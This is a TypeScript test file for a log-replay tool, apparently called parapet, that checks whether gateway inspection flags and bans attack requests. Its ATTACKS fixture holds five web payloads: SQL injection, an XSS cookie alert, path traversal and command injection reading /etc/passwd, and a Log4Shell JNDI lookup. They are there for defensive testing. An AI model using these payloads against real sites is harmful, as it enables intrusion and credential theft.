import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { newSite } from './run.ts';

const line = (ip: string, second: number, target: string, status = 200): string =>
  `${ip} - - [01/Mar/2026:11:00:${String(second).padStart(2, '0')} +0000] "GET ${target} HTTP/1.1" ${status} 512 "-" "Mozilla/5.0"\n`;
const ATTACKS = [
  '/?q=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--%20-',
  '/?a=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  '/?f=..%2F..%2F..%2Fetc%2Fpasswd',
  '/?x=$%7Bjndi:ldap://192.0.2.1/a%7D',
  '/?c=;cat%20/etc/passwd',
];
const LOG = [
  ...Array.from({ length: 20 }, (_, i) => line('198.51.100.9', i, `/node/${i}?page=2`)),
  ...ATTACKS.map((target, i) => line('203.0.113.5', 20 + i, target)),
].join('');

interface Answer {
  readonly lines: number;
  readonly alerts: readonly { scenario: string; value: string; message: string }[];
  readonly decisions: readonly { value: string; scenario: string }[];
  readonly inspection?: { requests: number; refused: number; classes: readonly { class: string }[] };
}

describe('parapet replay looks into the addresses of a log', () => {
  it('and tells attacks as the gateway does', async () => {
    const site = newSite();
    site.write('access.log', LOG);
    const { out, err, code } = await site.run('replay access.log --json');
    expect(err).toBe('');
    expect(code).toBe(1);
    const answer = JSON.parse(out) as Answer;
    expect(answer.inspection).toMatchObject({ requests: 25, refused: 5 });
    const alerts = answer.alerts.filter(({ scenario }) => scenario.startsWith('parapet/request-attack'));
    expect(new Set(alerts.map(({ value }) => value))).toEqual(new Set(['203.0.113.5']));
    expect(alerts.map(({ scenario }) => scenario)).toContain('parapet/request-attack');
    expect(alerts.map(({ scenario }) => scenario)).toContain('parapet/request-attacks');
    expect(new Set(answer.decisions.map(({ value }) => value))).toEqual(new Set(['203.0.113.5']));
  });

  it('and lists them for people', async () => {
    const site = newSite();
    site.write('access.log', LOG);
    const { out } = await site.run('replay access.log');
    expect(out).toContain('Inspection at the gateway would have refused 5 of 25 requests');
    expect(out).toMatch(/sqli +1 +\/\?q=1%27/);
  });

  it('with the appsec-rules of hub folders that are named', async () => {
    const site = newSite();
    site.write('access.log', line('203.0.113.5', 1, '/thing'));
    const folder = path.join(site.folder, 'hub/appsec-rules/acme');
    fs.mkdirSync(folder, { recursive: true });
    fs.writeFileSync(
      path.join(folder, 'thing.yaml'),
      'name: acme/thing\nrules:\n  - zones: [URI]\n    match: { type: equals, value: /thing }\nlabels:\n  label: Thing - SQLi\n',
    );
    const refused = async (options: string): Promise<number | undefined> =>
      (JSON.parse((await site.run(`replay access.log --json ${options}`)).out) as Answer).inspection?.refused;
    expect([await refused('--hub hub'), await refused('--type nginx')]).toEqual([1, 0]);
  });

  it('but not where it is switched off', async () => {
    const site = newSite();
    site.write('access.log', LOG);
    const answer = JSON.parse((await site.run('replay access.log --json --no-inspection')).out) as Answer;
    expect(answer.inspection).toBeUndefined();
    expect(answer.alerts.some(({ scenario }) => scenario.startsWith('parapet/request-attack'))).toBe(false);
    site.write('parapet.yaml', 'inspection: { mode: off }\n');
    expect(JSON.parse((await site.run('replay access.log --json')).out)).toEqual(
      expect.not.objectContaining({ inspection: expect.anything() as unknown }),
    );
  });

  it('and bans nobody for it where the configuration only observes', async () => {
    const site = newSite();
    site.write('access.log', LOG);
    site.write('parapet.yaml', 'inspection: { mode: observe }\n');
    const answer = JSON.parse((await site.run('replay access.log --json')).out) as Answer;
    expect(answer.alerts.map(({ scenario }) => scenario)).toContain('parapet/request-attack');
    expect(answer.alerts.map(({ scenario }) => scenario)).not.toContain('parapet/request-attacks');
  });
});
